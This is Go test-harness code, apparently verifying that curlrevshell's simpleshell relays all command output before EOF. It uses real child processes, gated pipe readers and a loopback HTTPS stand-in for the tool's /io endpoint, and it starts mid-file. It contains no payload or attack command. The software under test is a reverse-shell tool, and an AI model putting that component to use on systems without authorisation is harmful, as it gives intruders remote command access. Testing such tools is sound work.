						s.windowClosedAnyhow() // handled when the simulator lets it: the model cannot follow
					}
				}
				if !s.muted {
					s.muted, s.last, s.mutedSince, s.announceBy = true, now, now, 0
					s.probes["mute_cycles"]++
				} else {
					s.probes["ctrl_o_while_muted"]++
				}
			case '\r':
				s.typedLines = append(s.typedLines, string(s.curLine))
				s.expect = append(s.expect, expEnt{text: string(s.curLine)})
				s.curLine = nil
				if slow > 0 {
					s.probes["line_typed_behind_slow_insert"]++
				}
			case 0x09:
				// what is inserted is what the source gives when the shell reads it,
				// some time from now on: see expEnt
				e := expEnt{text: s.payloadS, insert: true}
				e.see(s.srcMode)
				s.expect = append(s.expect, e)
				if s.srcMode != "" {
					s.faults["insert_source_"+s.srcMode]++
					if slow > 0 {
						s.probes["failed_insert_behind_slow_insert"]++
					}
				}
				if slow > 0 {
					s.probes["insert_behind_slow_insert"]++
				}
				s.probes["ctrl_i"]++
				if s.srcMode == "" {
					s.probes["ctrl_i_payload_"+sizeClass(s.cfg.PayloadSize)]++
					if len(s.payload) > largePayload {
						s.faults["insert_payload_large"]++
					}
				}
			case 0x0a:
				s.probes["ctrl_j"]++
			default:
				if c >= 0x20 && c < 0x7f {
					s.curLine = append(s.curLine, c)
				}
			}
		}
		s.wake()
	case "plain":
		t := tok{text: string(a.B), at: now, step: s.step}
		s.modelAdvance(now)
		switch {
		case len(s.cfg.Arm) > 0:
			// lock-order run: when output is processed relative to a Ctrl+O is
			// the simulator's doing; only "nothing is suppressed without
			// Ctrl+O" is judged, at the end
			t.expect = "shown-if-never-muted"
		case s.windowOpen():
			// the same, for as long as the window is open.  The one case the model
			// can follow: this chunk is taken at once and held at "plain-locked",
			// nothing else is under way
			t.expect = "shown-if-never-muted"
			s.mu.Lock()
			alone := s.armed["plain-locked"] && !s.armed["plain"] && len(s.parks) == 0 && len(s.och) == 0 && s.heldPlainAt < 0
			s.mu.Unlock()
			if alone && !s.noJudge {
				s.heldPlainAt = now
				s.probes["output_held_with_write_lock"]++
			} else {
				s.windowClosedAnyhow()
			}
		case s.noJudge:
			t.expect = "shown-if-never-muted"
		case s.muted:
			t.expect = "hidden"
			s.last = now
			s.soft = false
			s.probes["plain_while_muted"]++
		default:
			t.expect = "shown"
		}
		s.plainSent = append(s.plainSent, t)
		s.och <- opshell.CLine{Line: t.text, Plain: true}
	case "status":
		s.modelAdvance(now)
		t := tok{text: string(a.B), at: now, step: s.step, expect: "shown"}
		s.statusSent = append(s.statusSent, t)
		s.och <- opshell.CLine{Line: t.text, Color: opshell.Color(1 + len(s.statusSent)%5)}
		if s.muted {
			s.probes["status_while_muted"]++
		}
	case "sleep":
		time.Sleep(time.Duration(a.Ns))
		s.modelAdvance(s.now())
	case "grant":
		s.windowClosedAnyhow()
		s.mu.Lock()
		for i, p := range s.parks {
			if p.site == a.Site {
				s.parks = append(s.parks[:i], s.parks[i+1:]...)
				close(p.ch)
				break
			}
		}
		s.mu.Unlock()
	case "grant_all":
		s.windowClosedAnyhow()
		s.probes["grant_all"]++
		s.releaseAll()
	case "disarm":
		s.windowClosedAnyhow()
		s.disarm()
	case "arm":
		s.mu.Lock()
		s.armed[a.Site] = true
		s.mu.Unlock()
		s.probes["armed_in_run_"+a.Site]++
	case "grant_behind":
		s.grantBehind(a, now)
	case "drain":
		s.stalled = false
		s.probes["input_channel_drained"]++
	case "src_mode":
		m := a.Mode
		if m == "ok" {
			m = ""
		}
		s.mu.Lock()
		changed := m != s.srcMode
		s.srcMode = m
		s.mu.Unlock()
		if changed {
			s.probes["src_mode_switched"]++
			// an insert still under way may read the source before or after this
			for i := range s.expect {
				e := &s.expect[i]
				if e.insert && !e.frozen {
					was := e.optional()
					e.see(m)
					if !was && e.optional() {
						s.faults["insert_source_switched_while_pending"]++
					}
				}
			}
		}
	case "src_hold":
		s.mu.Lock()
		s.srcHold, s.srcHoldAll = true, a.Mode == "all"
		s.mu.Unlock()
		s.probes["src_hold"]++
	case "src_release":
		if n := s.srcRelease(); n > 0 {
			s.probes["src_release_with_reads_in_progress"]++
		}
	case "eof":
		s.sentEOF = true
		s.mu.Lock()
		s.inEOF = true
		s.mu.Unlock()
		s.wake()
	}
}

// modelAdvance: muting ends by itself once no shell output has arrived for the
// pause interval.
func (s *sim) modelAdvance(now int64) {
	if len(s.cfg.Arm) == 0 && s.windowOpen() {
		// goroutines are held back: the model's clock stands still ("grant_behind"
		// brings it up to date)
		return
	}
	if s.soft && now >= s.softLo {
		// the mute may or may not have ended by now, depending on whether the held
		// chunk counts from when it arrived or from when it was handled
		s.soft, s.noJudge = false, true
		s.probes["timing_no_longer_judged"]++
	}
	// at the quiescent point of a step that ends exactly at last+pause the
	// timer has fired: the instant itself already counts as un-muted
	if s.muted && now >= s.last+pause {
		s.muted = false
		s.unmutedAt = s.last + pause
		s.announceBy = s.last + pause + slackNs
		s.probes["unmuted_by_calm"]++
	}
}

// grantBehind closes a window: nothing parks from here on; the goroutine parked
// at a.Site (the un-mute timer's callback) runs until it waits for the write
// lock, which the goroutine parked at a "-locked" site holds; then that one is
// let go.  All of it happens at one instant of the fake clock.
func (s *sim) grantBehind(a Action, now int64) {
	s.mu.Lock()
	s.armed = map[string]bool{}
	var first, holder *ypark
	var rest []*ypark
	for _, p := range s.parks {
		switch {
		case p.site == a.Site && first == nil:
			first = p
		case lockedSite(p.site) && holder == nil:
			holder = p
			rest = append(rest, p) // stays on the list while it is held: the watchdog's verdict needs "nothing parked"
		default:
			rest = append(rest, p)
		}
	}
	s.parks = rest
	s.mu.Unlock()
	if holder == nil {
		return // precond
	}
	what := "output"
	if holder.site == "logf-locked" {
		what = "status"
	}
	if first != nil {
		s.probes["timer_fired_while_"+what+"_held_write_lock"]++
		close(first.ch)
		simkit.Heartbeat.Add(1)
		n, ok := simkit.WaitAllowMutex()
		simkit.Heartbeat.Add(1)
		if !ok {
			s.harnessErr = "no quiescence (with a goroutine waiting for the write lock tolerated) within ten seconds"
		}
		if n > 0 {
			s.probes["timer_waited_for_write_lock"]++
			s.probes["timer_waited_for_write_lock_held_by_"+what]++
		}
		s.obs("timer callback let go behind %s: %d wait for the write lock", holder.site, n)
	} else {
		s.probes["timer_not_fired_when_lock_released"]++
		s.obs("no timer callback parked; %s let go", holder.site)
	}
	s.mu.Lock()
	for i, p := range s.parks {
		if p == holder {
			s.parks = append(s.parks[:i], s.parks[i+1:]...)
			break
		}
	}
	others := len(s.parks)
	s.mu.Unlock()
	close(holder.ch)
	if others > 0 {
		// not enabled by precond; never leave anything parked behind a closed window
		s.noJudge = true
		s.releaseAll()
	}
	// the model, as of this instant
	held := s.heldPlainAt
	s.heldPlainAt = -1
	if len(s.cfg.Arm) > 0 || s.noJudge {
		return
	}
	if holder.site == "plain-locked" {
		// the held chunk of shell output is handled now.  Muted: it is dropped and
		// calm starts again, whether the chunk counts from when it arrived (held)
		// or from now; both only agree that the mute lasts beyond now if the
		// chunk arrived less than the pause interval ago
		if s.muted {
			if held >= 0 && now < held+pause {
				s.last, s.soft, s.softLo = now, true, held+pause
				s.probes["held_output_postponed_unmute"]++
			} else {
				s.noJudge = true
				s.probes["timing_no_longer_judged"]++
			}
		}
		return
	}
	// a status line held the lock: nothing about muting changed; a callback that
	// was due runs now at the earliest
	if s.muted && first != nil && now >= s.last+pause {
		s.muted = false
		s.unmutedAt = now
		s.announceBy = now + slackNs
		s.probes["unmuted_by_calm"]++
		s.probes["unmuted_as_soon_as_lock_free"]++
	}
}

// termBytes is everything written to the terminal so far.  What has been
// written never changes, so the concatenation is kept and only extended.
func (s *sim) termBytes() []byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, w := range s.writes[s.outN:] {
		s.outBuf = append(s.outBuf, w.data...)
	}
	s.outN = len(s.writes)
	return s.outBuf
}

// termBytesNoCR is out (the result of termBytes) with the carriage returns
// taken out, kept and extended in the same way.
func (s *sim) termBytesNoCR(out []byte) []byte {
	for _, c := range out[s.noCRUpto:] {
		if c != '\r' {
			s.outNoCR = append(s.outNoCR, c)
		}
	}
	s.noCRUpto = len(out)
	return s.outNoCR
}

// onTerm: does out (the result of termBytes) contain key?  As out only ever
// grows, a key found once stays found and one not found needs looking for
// only in what is new.
func (s *sim) onTerm(out []byte, key string) bool {
	st := s.seen[key]
	if st == nil {
		st = &seenKey{}
		s.seen[key] = st
	}
	if st.found {
		return true
	}
	from := st.upto - len(key) + 1
	if from < 0 {
		from = 0
	}
	if from < len(out) && bytes.Contains(out[from:], []byte(key)) {
		st.found = true
	}
	st.upto = len(out)
	return st.found
}

type seenKey struct {
	found bool
	upto  int // how much of the terminal's output has been searched
}
