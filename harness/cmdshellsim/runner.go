package cmdshellsim

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

const (
	zombieSettle = 15 * time.Millisecond // a zombie this old counts as "exited, not going to be reaped soon"
	reapSettle   = 5 * time.Millisecond  // after the reap: let Wait finish what it does next
	cleanupCap   = 5 * time.Second
)

// observed is everything one process run showed.
type observed struct {
	n       [3]int  // bytes of each class seen on Output()
	bad     [3]bool // class sub-stream deviates from its pattern
	foreign bool    // a byte of neither class
	ended   bool    // the consumer saw the end of the stream (EOF or error)
	endEOF  bool

	goReturned bool
	goErr      error

	res *puppetResult // nil: the child did not get to write it

	stuck      string // non-empty: no progress for the cap; state summary
	stuckFound *simkit.Found
	harnessErr string
	forcedOpen bool
	notes      []string

	// GoSimple family
	gs        bool
	proto     int // HTTP major version the shell's request came with
	extraReqs int // requests beyond the one expected
	pokes     int // input bytes sent beyond the plan's
	// reads of a readx item made because the child was seen blocked writing
	wblockHits int
	napBehind  int64 // bytes the child had written but the consumer not yet read when its nap began (-1: no nap)

	// family famNoStart
	noStart bool // a run of that family
	started bool // Go has returned and the exec.Cmd has a process all the same
}

type runner struct {
	pl   *plan
	dir  string
	self int

	abort     chan struct{}
	abortOnce sync.Once
	aborted   atomic.Bool
	prog      atomic.Int64

	consumed  atomic.Int64
	consGate  atomic.Value // string: gate the consumer is waiting at ("" none)
	inGate    atomic.Bool
	inputDone atomic.Bool
	goDone    chan struct{}
	// consReading: the consumer is inside a Read of the output stream (set
	// just before the call, cleared when it has returned)
	consReading atomic.Bool
	goGate      atomic.Bool // famNoStart: the caller of Go waits for the consumer to be reading

	// strictInput: the input counts as over only when all of it has been
	// handed over (GoSimple family: the input side writes, it is not read).
	strictInput bool
	napped      atomic.Bool  // a nap item was reached
	napBacklog  atomic.Int64 // bytes consumed when the (last) nap began

	pid      int
	zSince   time.Time
	cwaits   []cw
	cwaitsMu sync.Mutex
}

type cw struct {
	step int
	n    int
	open bool
}

func (r *runner) doAbort() {
	r.abortOnce.Do(func() { r.aborted.Store(true); close(r.abort) })
}

// waitCond polls cond until it holds (true) or the run is aborted (false).
// Polling with short sleeps is fine for a gate: it is never an oracle.
func (r *runner) waitCond(cond func() bool) bool {
	for i := 0; ; i++ {
		if cond() {
			r.prog.Add(1)
			return true
		}
		select {
		case <-r.abort:
			return false
		default:
		}
		if i < 30 {
			time.Sleep(100 * time.Microsecond)
		} else {
			time.Sleep(time.Millisecond)
		}
	}
}

func (r *runner) childPid() int {
	if r.pid != 0 {
		return r.pid
	}
	b, err := os.ReadFile(filepath.Join(r.dir, "pid"))
	if err != nil {
		return 0
	}
	p, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return p
}

// procState returns 0 if pid is gone (or is not our child any more), else its
// state letter.
func procState(pid, parent int) byte {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return 0
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	if i < 0 {
		return 0
	}
	f := strings.Fields(s[i+1:])
	if len(f) < 2 {
		return 0
	}
	if pp, _ := strconv.Atoi(f[1]); pp != parent {
		return 0
	}
	return f[0][0]
}

// childExited: the puppet has done its last action and the process is a
// zombie or gone.
func (r *runner) childExited() bool {
	if !exists(filepath.Join(r.dir, "exiting")) {
		return false
	}
	pid := r.childPid()
	if pid == 0 {
		return false
	}
	switch procState(pid, r.self) {
	case 0:
		return true
	case 'Z':
		// The state is that of the thread group's leader.  Other threads of
		// the (Go) puppet may still be on their way out, and as long as one
		// of them is, the process's descriptors are open: a write to its
		// stdin pipe would still succeed.  Exited means: nobody but the dead
		// leader is left.
		return taskCount(pid) <= 1
	}
	return false
}

// childBlockedWriting: some thread of the child is inside write(2) on its
// standard output or standard error and not running, which is to say blocked:
// the pipe is full and so is everything behind it.  (An observed state, read
// from /proc/<pid>/task/<tid>/syscall; false when that cannot be read.)
func (r *runner) childBlockedWriting() bool {
	pid := r.childPid()
	if pid == 0 {
		return false
	}
	base := "/proc/" + strconv.Itoa(pid) + "/task"
	es, err := os.ReadDir(base)
	if err != nil {
		return false
	}
	for _, e := range es {
		b, err := os.ReadFile(base + "/" + e.Name() + "/syscall")
		if err != nil {
			continue
		}
		f := strings.Fields(string(b))
		if len(f) < 2 || f[0] != strconv.Itoa(syscall.SYS_WRITE) {
			continue
		}
		if f[1] == "0x1" || f[1] == "0x2" {
			return true
		}
	}
	return false
}

// wblockMax: how long a readx item in wblock mode waits for the child to be
// seen blocked before it reads on regardless.
const wblockMax = 50 * time.Millisecond

// waitChildBlocked waits until the child is blocked writing (true), or has
// exited, or max has passed (real time: the fallback that keeps a consumer
// going whose child waits for something else).
func (r *runner) waitChildBlocked(max time.Duration) bool {
	end := time.Now().Add(max)
	for {
		if r.childBlockedWriting() {
			return true
		}
		if r.aborted.Load() || r.childExited() || !time.Now().Before(end) {
			return false
		}
		time.Sleep(100 * time.Microsecond)
	}
}

// taskCount is the number of threads pid still has (0: cannot tell / gone).
func taskCount(pid int) int {
	es, err := os.ReadDir("/proc/" + strconv.Itoa(pid) + "/task")
	if err != nil {
		return 0
	}
	return len(es)
}

// reaped: the child has exited and has been waited for (then settle a
// moment), or it stays a zombie because the shell is not going to wait for it
// before its output is read.
func (r *runner) reaped() bool {
	if !exists(filepath.Join(r.dir, "exiting")) {
		return false
	}
	pid := r.childPid()
	if pid == 0 {
		return false
	}
	switch procState(pid, r.self) {
	case 0:
		time.Sleep(reapSettle)
		return true
	case 'Z':
		if r.zSince.IsZero() {
			r.zSince = time.Now()
		}
		return time.Since(r.zSince) >= zombieSettle
	}
	return false
}

func (r *runner) goReturned() bool {
	select {
	case <-r.goDone:
		return true
	default:
		return false
	}
}

func (r *runner) noteConsumed(n int) {
	tot := r.consumed.Add(int64(n))
	r.prog.Add(1)
	r.cwaitsMu.Lock()
	for i := range r.cwaits {
		c := &r.cwaits[i]
		if !c.open && tot >= int64(c.n) {
			c.open = true
			touch(filepath.Join(r.dir, fmt.Sprintf("g%d", c.step)))
		}
	}
	r.cwaitsMu.Unlock()
}

// inReader is the shell's input: the planned chunks, gates, then EOF.
type inReader struct {
	r     *runner
	items []Item
	idx   int
	off   int
	pos   int
	over  bool
}

func (ir *inReader) Read(p []byte) (int, error) {
	r := ir.r
	r.prog.Add(1)
	if len(p) == 0 {
		return 0, nil
	}
	for {
		if r.aborted.Load() {
			return 0, io.EOF
		}
		if ir.over || ir.idx >= len(ir.items) {
			r.inputDone.Store(true)
			return 0, io.EOF
		}
		it := ir.items[ir.idx]
		if it.K == "inz" {
			ir.idx++
			return 0, nil // allowed by io.Reader: nothing happened
		}
		if it.K == "ingate" {
			r.inGate.Store(true)
			ok := r.waitCond(r.childExited)
			r.inGate.Store(false)
			ir.idx++
			if !ok {
				return 0, io.EOF
			}
			continue
		}
		n := it.N - ir.off
		if n > len(p) {
			n = len(p)
		}
		for j := 0; j < n; j++ {
			p[j] = inByte(ir.pos + j)
		}
		ir.pos += n
		ir.off += n
		if ir.off == it.N {
			ir.idx++
			ir.off = 0
			if r.pl.dataEOF && !ir.moreData() {
				// the last bytes go out together with io.EOF (allowed by
				// io.Reader); whatever gates remain are passed first
				for ; ir.idx < len(ir.items); ir.idx++ {
					if ir.items[ir.idx].K == "ingate" {
						r.inGate.Store(true)
						r.waitCond(r.childExited)
						r.inGate.Store(false)
					}
				}
				ir.over = true
				r.inputDone.Store(true)
				return n, io.EOF
			}
		}
		return n, nil
	}
}

func (ir *inReader) moreData() bool {
	for _, it := range ir.items[ir.idx:] {
		if it.K == "in" {
			return true
		}
	}
	return false
}

func (o *observed) account(b []byte) {
	for _, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			if c != outByte(1, o.n[1]) {
				o.bad[1] = true
			}
			o.n[1]++
		case c >= 'A' && c <= 'Z':
			if c != outByte(2, o.n[2]) {
				o.bad[2] = true
			}
			o.n[2]++
		default:
			o.foreign = true
		}
	}
}

func dirCount(dir string) int64 {
	es, err := os.ReadDir(dir)
	if err != nil {
		return 0
	}
	return int64(len(es))
}

// runPlan runs one real process under pl and reports what was seen.
// stuckCap is how long the run may go without any progress.
func runPlan(pl *plan, dir string, stuckCap time.Duration) *observed {
	if pl.cfg.Fam == famGoSimple {
		return runPlanGS(pl, dir, stuckCap)
	}
	if pl.cfg.Fam == famNoStart {
		return runPlanNoStart(pl, dir, stuckCap)
	}
	ob := &observed{}
	self, err := os.Executable()
	if err != nil {
		ob.harnessErr = "os.Executable: " + err.Error()
		return ob
	}
	r := newRunner(pl, dir)
	pj, _ := json.Marshal(&puppetPlan{Dir: dir, Steps: pl.child})
	cmd := exec.Command(self)
	cmd.Env = append(os.Environ(), puppetEnv+"="+string(pj))
	cmd.Dir = dir
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		ob.harnessErr = "NewCmdShell: " + err.Error()
		return ob
	}
	sh.SetInput(&inReader{r: r, items: pl.input})
	out := sh.Output()

	go func() {
		ob.goErr = sh.Go(context.Background())
		close(r.goDone)
	}()
	consDone := make(chan struct{})
	go func() {
		defer close(consDone)
		r.consume(ob, out.Read)
	}()
	r.supervise(ob, consDone, stuckCap, func() { _ = out.Close() })
	r.readResult(ob)
	return ob
}

func (r *runner) readResult(ob *observed) {
	if b, err := os.ReadFile(filepath.Join(r.dir, "result")); err == nil {
		var pr puppetResult
		if json.Unmarshal(b, &pr) == nil {
			ob.res = &pr
		}
	}
}

// consume is the consumer of the output stream: it follows the plan's
// consumer items, reading through rd, and then reads to the end of the stream.
func (r *runner) consume(ob *observed, rd func([]byte) (int, error)) {
	pl := r.pl
	buf := make([]byte, maxChunk)
	read := func(sz int) bool {
		r.consReading.Store(true)
		n, err := rd(buf[:sz])
		r.consReading.Store(false)
		if n > 0 {
			ob.account(buf[:n])
			r.noteConsumed(n)
		}
		if err != nil {
			if !r.aborted.Load() {
				ob.ended = true
				ob.endEOF = err == io.EOF
			}
			return false
		}
		return true
	}
	for _, it := range pl.cons {
		switch it.K {
		case "rgate":
			var cond func() bool
			switch it.G {
			case "reaped":
				cond = r.reaped
			case "go_returned":
				cond = r.goReturned
			case "input_done":
				cond = r.inputDone.Load
			}
			r.consGate.Store(it.G)
			ok := r.waitCond(cond)
			r.consGate.Store("")
			if !ok {
				return
			}
		case "read":
			for rem := it.N; rem > 0; {
				sz := it.Sz
				if sz > rem {
					sz = rem
				}
				before := r.consumed.Load()
				if !read(sz) {
					return
				}
				rem -= int(r.consumed.Load() - before)
			}
		case "readx":
			// the slowest party until the child has exited
			for !r.childExited() {
				if r.aborted.Load() || !read(it.Sz) {
					return
				}
				if it.N > 0 {
					time.Sleep(time.Duration(it.N) * time.Microsecond)
				}
				if it.G == "wblock" && r.waitChildBlocked(wblockMax) {
					ob.wblockHits++
				}
			}
		case "nap":
			// real time, in slices, so that the run is seen to be alive
			r.napBacklog.Store(r.consumed.Load())
			r.napped.Store(true)
			for end := time.Now().Add(time.Duration(it.N) * time.Millisecond); time.Now().Before(end); {
				if r.aborted.Load() {
					return
				}
				r.prog.Add(1)
				time.Sleep(20 * time.Millisecond)
			}
		}
	}
	for read(pl.drain) {
	}
}

// supervise waits until the consumer and Go have both finished.  No progress
// for stuckCap means stuck: the state is judged, then everything is opened,
// the child killed and the stream closed (closeOut).
func (r *runner) supervise(ob *observed, consDone chan struct{}, stuckCap time.Duration, closeOut func()) {
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	cd, gd := consDone, r.goDone
	last, lastMove := int64(-1), time.Now()
	stuck := false
	for !stuck && (cd != nil || gd != nil) {
		select {
		case <-cd:
			cd = nil
		case <-gd:
			gd = nil
		case <-tick.C:
			simkit.Heartbeat.Add(1)
			p := r.prog.Load() + dirCount(r.dir)
			if p != last {
				last, lastMove = p, time.Now()
			} else if time.Since(lastMove) > stuckCap {
				stuck = true
			}
		}
	}
	if !stuck {
		ob.goReturned = true
		return
	}
	ob.goReturned = gd == nil
	r.judgeStuck(ob, cd == nil, gd == nil)
	// clean up: open everything, kill the child, close the stream
	r.doAbort()
	if pid := r.childPid(); pid != 0 && procState(pid, r.self) != 0 {
		_ = syscall.Kill(pid, syscall.SIGKILL)
	}
	closeOut()
	t := time.NewTimer(cleanupCap)
	for cd != nil || gd != nil {
		select {
		case <-cd:
			cd = nil
		case <-gd:
			gd = nil
		case <-t.C:
			ob.notes = append(ob.notes, "goroutines of the shell left behind after abort")
			cd, gd = nil, nil
		}
	}
	t.Stop()
}

// judgeStuck decides what a run without progress means.  Only states that
// cannot be the harness's own gates waiting for each other become findings;
// anything else is a harness error.
func (r *runner) judgeStuck(ob *observed, consDone, goDone bool) {
	if r.pl.cfg.Fam == famNoStart {
		r.judgeStuckNoStart(ob, consDone, goDone)
		return
	}
	exited := r.childExited()
	gate, _ := r.consGate.Load().(string)
	step, kind := -1, ""
	for i, st := range r.pl.child {
		if exists(filepath.Join(r.dir, fmt.Sprintf("s%d", i))) {
			step, kind = i, st.K
		}
	}
	ob.stuck = fmt.Sprintf("child_exited=%v child_step=%d(%s) consumer_done=%v consumer_gate=%q go_returned=%v input_gate=%v input_done=%v",
		exited, step, kind, consDone, gate, goDone, r.inGate.Load(), r.inputDone.Load())
	found := func(inv, sig, msg string) {
		ob.stuckFound = &simkit.Found{Property: "C14", Invariant: inv, Signature: sig, Message: msg + " (" + ob.stuck + ")"}
	}
	inputOver := r.inputDone.Load() || (!r.inGate.Load() && !r.strictInput)
	switch {
	case !consDone && gate == "" && exited && inputOver:
		found("stream-ends", "no end of stream after the command exited",
			"the command has exited and the consumer is reading, but the output stream does not end")
	case !consDone && gate == "" && !exited && kind == "w":
		found("stream-ends", "command blocked writing: output not drained",
			"the consumer is reading but the command stays blocked in a write: its output is not being relayed")
	case !exited && kind == "eof" && r.inputDone.Load() && (consDone || gate == ""):
		found("input-intact", "end of input not delivered to the command",
			"the input stream has ended but the command still waits for end of input")
	case consDone && !exited && kind == "w":
		found("output-complete-before-eof", "end of stream while the command is still writing",
			"the output stream has ended although the command is alive and blocked in a write")
	case !goDone && exited && inputOver && (consDone || gate == "go_returned"):
		found("exit-status-reported", "Go did not return",
			"the command has exited, input has ended and output was read to its end, but Go does not return")
	default:
		ob.harnessErr = "run stuck in a state the harness cannot attribute: " + ob.stuck
	}
}

// inputDigest is what the child must report for n planned input bytes.
func inputDigest(n int) string {
	h := sha256.New()
	buf := make([]byte, 4096)
	for pos := 0; pos < n; {
		k := len(buf)
		if k > n-pos {
			k = n - pos
		}
		for j := 0; j < k; j++ {
			buf[j] = inByte(pos + j)
		}
		h.Write(buf[:k])
		pos += k
	}
	return hex.EncodeToString(h.Sum(nil))
}
