// Package cmdshellsim is the engine for property C14: simpleshell.CmdShell
// relays everything the wrapped command writes before reporting EOF.
//
// Nothing is simulated here: the racing parties are a kernel process, kernel
// pipes and goroutines inside os/exec.  The engine runs REAL processes and
// controls the schedule dimensions the statement names through a puppet child
// (this very test binary re-executed with VERIF_PUPPET set) and a gated
// consumer of Output().  The oracle is schedule independent.
//
// A second family of runs (Config.Fam == "gosimple", gosimple.go) goes through
// simpleshell.GoSimple, the entry point the program itself uses, against an
// HTTPS server of the worker on loopback that plays curlrevshell's /io side:
// whatever GoSimple sets on the command it builds is then in play.  A few of
// those runs let the consumer stand still for 1.5-2.5 s of REAL time after it
// has seen the command exited while output is still outstanding (faults
// gosimple_real_nap_after_exit, backlog_beyond_c2_window_during_nap): a grace
// period after which output is given up shows only then.
//
// A third, small family (Config.Fam == "nostart", nostart.go) wraps a command
// that cannot be started at all (nothing at the path, no execute permission, a
// directory, a bare name not on PATH): Go must report an error and the output
// stream must end all the same.
package cmdshellsim

import (
	"encoding/json"
	"fmt"
	"syscall"
)

// Limits the generator and the validator share.
const (
	// pipeSafe is comfortably below the 64 KiB kernel pipe buffer: a child
	// whose outstanding output per descriptor is at most this much can
	// finish all its writes and exit without anybody reading.
	pipeSafe = 60000
	// pipeBuf is the usual kernel pipe buffer (used only for probes).
	pipeBuf    = 65536
	copyChunk  = 32768 // what a relay plausibly takes out of a pipe at once
	maxWrite   = 400000
	maxOutput  = 800000
	maxInBig   = 300000
	maxChunk   = 65536
	maxReads   = 20000     // read calls of one "read" item
	maxDrainRd = maxOutput // read calls of the final drain

	codeEPIPE = 97 // puppet: a write to fd 1/2 failed
	codeBad   = 98 // puppet: could not execute its plan
)

// Item is one element of a case's action list.  The three parties (child,
// input, consumer) each execute their own items in list order.
//
//	child:    w(fd,n) close(fd) eof cwait(n) wdrain(fd) exit(code) kill(sig)
//	input:    in(n) ingate(g=child_exited) inz indataeof
//
// kill: the child ends by sending itself a signal instead of exiting.
// inz: one Read of the input returns (0, nil) at that point.
// indataeof: the input's last bytes are returned together with io.EOF
// (io.Reader allows both; position of the item does not matter).
//
//	consumer: rgate(g=reaped|go_returned|input_done) read(n,sz) drain(sz)
//	          readx(sz,n) nap(n)
//	go:       gowait(g=consumer_reading)   (family famNoStart only, nostart.go)
//
// readx: the consumer reads sz bytes at a time, pausing n microseconds after
// each read, until the child is seen to have exited (an observed state; the
// pause only makes the consumer the slowest party so that everything between
// the child and the consumer is full when the child exits).  With g=wblock the
// next read is made, after the pause (which lets the freed room travel up to
// the command), only when the child is seen blocked in a write to its output
// (an observed state: everything in between is full), at the latest 50 ms
// later.
// nap: the consumer does nothing for n milliseconds of REAL time (the one wait
// of this engine that is not an observed state: it stands for "the reader is
// still behind long after the command has gone", see Config.Fam).
type Item struct {
	K    string `json:"k"`
	FD   int    `json:"fd,omitempty"`
	N    int    `json:"n,omitempty"`
	Sz   int    `json:"sz,omitempty"`
	G    string `json:"g,omitempty"`
	Code int    `json:"code,omitempty"`
	Sig  int    `json:"sig,omitempty"`
}

// Config holds what is fixed for a case.
type Config struct {
	V int `json:"v"`
	// Fam selects the family of the run: "" drives a CmdShell directly
	// (NewCmdShell, SetInput, Output, Go); famGoSimple goes through the entry
	// point the program itself uses, simpleshell.GoSimple, against an HTTPS
	// server of the worker that plays curlrevshell's /io side (pinned key,
	// loopback): the consumer is the handler reading the request body, the
	// input is the response body, the puppet is the command.  famNoStart
	// drives a CmdShell directly around a command that cannot be started
	// (nostart.go): there is no puppet.
	Fam string `json:"fam,omitempty"`
	// Win is the server's HTTP/2 receive buffer per stream and connection
	// (0: net/http's default).  It only changes how much output is in flight
	// between the shell and the consumer.
	Win int `json:"win,omitempty"`
	// FPre: the pinned fingerprint is given with its optional sha256// prefix.
	FPre bool `json:"fpre,omitempty"`
	// Kind (family famNoStart only): why the command cannot be started, one
	// of noStartKinds.
	Kind string `json:"kind,omitempty"`
	// NoIn (family famNoStart only): SetInput is not called at all.
	NoIn bool `json:"noin,omitempty"`
}

const famGoSimple = "gosimple"

// Limits of the GoSimple family: its plans need more output than everything
// between the shell and the consumer (HTTP/2 windows, TLS, sockets) can hold.
const (
	gsMaxWrite  = 4 << 20
	gsMaxOutput = 8 << 20
	maxNapMS    = 5000
	maxPauseUS  = 20000
	// longNapMS: a nap at least this long makes a run slow enough for the
	// engine to repeat it less often (minimiser, confirmation).
	longNapMS = 1000
)

type plan struct {
	cfg   Config
	items []Item
	child []Item
	input []Item
	cons  []Item

	out      [3]int // planned bytes per descriptor (index 1, 2)
	inTotal  int
	hasEOF   bool
	hasCwait bool
	exitCode int
	killSig  int  // the child ends by this signal (0: it exits)
	dataEOF  bool // last input bytes come together with io.EOF
	zeroRds  int  // (0, nil) reads in the input
	drain    int
	closed   [3]bool
	inGate   bool
	// wdrain: the child waits until its pipe is empty
	wdrains    [3]int
	wdrainDeep bool           // a wdrain with more before it than one relay chunk
	gates      map[string]int // consumer gates by kind
	hasReadx   bool
	napMS      int  // real-time naps of the consumer, in all
	napReaped  bool // a nap of at least longNapMS after the child was seen reaped
	unblocker  bool // input bytes follow a child_exited gate
	goWait     bool // famNoStart: Go is called only once the consumer is reading
}

func (it Item) String() string {
	b, _ := json.Marshal(it)
	return string(b)
}

func isChild(k string) bool {
	return k == "w" || k == "close" || k == "eof" || k == "cwait" || k == "wdrain" || k == "exit" || k == "kill"
}
func isInput(k string) bool { return k == "in" || k == "ingate" || k == "inz" || k == "indataeof" }
func isCons(k string) bool {
	return k == "rgate" || k == "read" || k == "drain" || k == "readx" || k == "nap"
}

// newPlan splits and validates items.  A non-empty string says why the list
// is not an executable plan (the case is then Invalid).
func newPlan(cfg Config, items []Item) (*plan, string) {
	p := &plan{cfg: cfg, items: items, drain: 32768, gates: map[string]int{}}
	exitSeen, eofSeen, drainSeen := false, false, false
	written := 0
	gs := false
	mWrite, mOutput := maxWrite, maxOutput
	if cfg.Fam != famNoStart && (cfg.Kind != "" || cfg.NoIn) {
		return nil, "options of the cannot-be-started family in another family"
	}
	switch cfg.Fam {
	case "":
		if cfg.Win != 0 || cfg.FPre {
			return nil, "server options without a server"
		}
	case famNoStart:
		return newPlanNoStart(p)
